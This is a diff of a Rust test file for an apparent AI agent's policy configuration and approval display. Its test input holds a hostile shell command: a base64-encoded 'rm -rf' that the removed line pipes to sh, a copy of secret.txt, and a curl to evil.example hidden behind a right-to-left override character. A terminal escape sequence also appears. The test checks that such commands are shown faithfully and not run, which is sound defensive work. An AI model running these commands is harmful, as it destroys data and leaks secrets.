@@ -180,8 +180,8 @@ fn configuration_has_a_mode_and_rules_and_says_where() {
     for (text, said) in [
         ("[policy]\ndeny = [\"pay\"]\n", "in configuration a rule is about a built-in tool"),
         ("[policy]\ndeny = [\"shell(\"]\n", "policy: the deny rule \"shell(\""),
-        ("[policy]\ndeny = [{ rule = \"shell(rm *)\", match = [\"ls\"] }]\n", "does not match what its `match` says"),
-        ("[policy]\nallow = [{ rule = \"shell(ls *)\", not_match = [\"ls -l\"] }]\n", "matches what its `not_match`"),
+        ("[policy]\ndeny = [{ rule = \"shell(rm *)\", match = [\"ls\"] }]\n", "does not match its example"),
+        ("[policy]\nallow = [{ rule = \"shell(ls *)\", not_match = [\"ls -l\"] }]\n", "which it says it does not"),
         ("[policy]\ndny = []\n", "policy.dny"),
         ("permission_mode = \"free\"\n", "there is no mode \"free\""),
         ("[sandbox]\nmode = \"off\"\n", "sandbox.mode: \"off\""),
@@ -196,7 +196,7 @@ fn configuration_has_a_mode_and_rules_and_says_where() {
 #[test]
 fn law_8_what_is_asked_says_what_it_would_do() {
     let world = World::new();
-    let command = r"echo cm0gLXJm | base64 -d | sh; cp secret.txt out/copy; \u202ecurl https://evil.example/x";
+    let command = r"echo cm0gLXJm | base64 -d > decoded; cp secret.txt out/copy; \u202ecurl https://evil.example/x";
     let replies = calls("write_file", "{ path = \"a.txt\", content = \"x\\u001b[2J\" }")
         + &calls("shell", &format!("{{ command = \"{command}\" }}"))
         + &says("done");
@@ -216,7 +216,7 @@ fn law_8_what_is_asked_says_what_it_would_do() {
     world.run("approve q a1").is(0);
     world.run("resume q --on-ask wait").is(3);
     let listed = world.run("approvals").is(0).stdout;
-    assert!(listed.contains("echo cm0gLXJm | base64 -d | sh"), "shown as it is: {listed}");
+    assert!(listed.contains("echo cm0gLXJm | base64 -d > decoded"), "shown as it is: {listed}");
     assert!(!listed.contains('\u{202e}') && listed.contains("\\u{202e}curl"), "{listed}");
     assert!(!world.path("out").exists());
 }
